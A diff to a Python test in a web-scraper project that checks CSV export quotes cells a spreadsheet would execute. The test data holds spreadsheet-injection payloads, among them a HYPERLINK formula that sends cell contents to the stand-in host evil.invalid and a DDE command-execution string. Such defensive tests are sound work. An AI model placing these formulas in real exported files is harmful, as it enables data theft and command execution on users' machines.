@@ -431,14 +431,14 @@ def test_export_to_a_plain_file_still_works(tmp_path, filled):
 
 
 def test_csv_cells_a_spreadsheet_would_run_get_a_quote(tmp_path):
-    from gongkai_spider.commands.export import write_export
+    from gongkai_spider.commands.export import write_csv
 
     hostile = doc(1, title='=HYPERLINK("http://evil.invalid/?"&A1,"查看")', author="+cmd|' /C calc'!A0",
                   source="-2+3", summary="@SUM(1+1)*cmd", body="\tTAB then =1+1", keywords=["=1+1"],
                   simhash=-1234567890123, read_count=-3)
     hostile["doc_meta"] = {"index_no": "\r=2+2"}
     out = io.StringIO()
-    write_export([hostile, doc(2, title="-5", author="-0.5e3", source="+86 10 1234 5678")], out, "csv")
+    write_csv([hostile, doc(2, title="-5", author="-0.5e3", source="+86 10 1234 5678")], out)
     rows = list(csv.DictReader(io.StringIO(out.getvalue())))
     first, second = rows
     assert first["title"].startswith("'=HYPERLINK")
